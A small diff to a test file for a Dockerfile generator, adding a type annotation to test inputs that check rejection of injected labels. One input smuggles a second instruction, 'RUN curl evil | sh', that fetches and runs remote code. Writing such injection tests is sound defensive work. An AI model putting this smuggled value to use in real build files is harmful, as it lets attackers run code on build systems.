@@ -60,7 +60,7 @@ describe('generateDockerfile', () => {
   });
 
   it('refuses a label that could end the instruction or inject another one', () => {
-    for (const labels of [
+    for (const labels of <Record<string, string>[]>[
       { 'berth.app': 'a"\nRUN curl evil | sh' },
       { 'berth.app': 'a\\' },
       { 'berth.app': '$HOME' },
